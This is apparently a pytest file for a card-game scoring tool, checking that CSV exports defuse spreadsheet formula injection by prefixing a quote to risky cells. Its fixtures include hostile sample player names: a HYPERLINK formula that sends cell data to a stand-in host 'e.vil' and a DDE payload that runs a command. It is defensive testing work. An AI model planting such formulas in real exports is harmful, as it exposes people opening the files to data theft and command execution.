"""Spreadsheets: a name is never a formula (CSV injection, as OWASP describes it)."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

from .conftest import Cli

FORMULAS = {
    "N": '=HYPERLINK("http://e.vil?"&A1,"click")',
    "E": "+SUM(1,2)",
    "S": "@cmd|' /C calc'!A0",
    "W": "-2+3",
}


def test_csv_cells_of_names_are_never_formulas(cli: Cli, db: Path) -> None:
    """OWASP's advice against CSV injection: a cell of user text that starts with = + - @,
    a tab or a carriage return gets a ' in front; numbers stay numbers."""
    seats = ("--north", "--east", "--south", "--west")
    made = cli(
        "new",
        *(x for seat, flag in zip("NESW", seats, strict=True) for x in (flag, FORMULAS[seat])),
        "--dealer",
        "W",
    )
    assert made.exit_code == 0, made.stderr
    cli(
        "record",
        "1",
        input="9h o 9s\nah 9d jh 9h\nac qc 9c jc\nkd ad td th\nas qs kc kh\nqh ks ts jd\n",
    )
    rows = list(csv.DictReader(io.StringIO(cli("export", "1", "--format", "csv").stdout)))
    assert rows[0]["dealer_name"] == "'-2+3"
    assert rows[0]["maker_name"] == "'" + FORMULAS["N"]
    assert rows[0]["points_ns"] == "1" and rows[0]["score_ns"] == "1"  # numbers, as numbers
    stats = list(csv.DictReader(io.StringIO(cli("stats", "--format", "csv").stdout)))
    assert sorted(r["name"] for r in stats) == sorted("'" + f for f in FORMULAS.values())
    assert all(r["games"] == "1" for r in stats)
    for row in [*rows, *stats]:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # A name with a tab (refused now, kept from before) shows the tab as text: no formula.
    with sqlite3.connect(db) as con:
        con.execute("UPDATE player SET name = ? WHERE name = ?", ("\t=1+1", FORMULAS["E"]))
    stats = list(csv.DictReader(io.StringIO(cli("stats", "--format", "csv").stdout)))
    assert "\\t=1+1" in [r["name"] for r in stats]


def test_a_plain_name_in_a_csv_is_left_as_it_is(cli: Cli) -> None:
    cli("new", "--players", "Ann,Bob-Smith,O'Neil,Zoë 2", "--dealer", "W")
    out = cli("stats", "--format", "csv").stdout
    assert {line.split(",")[0] for line in out.splitlines()[1:]} == {
        "Ann",
        "Bob-Smith",
        "O'Neil",
        "Zoë 2",
    }
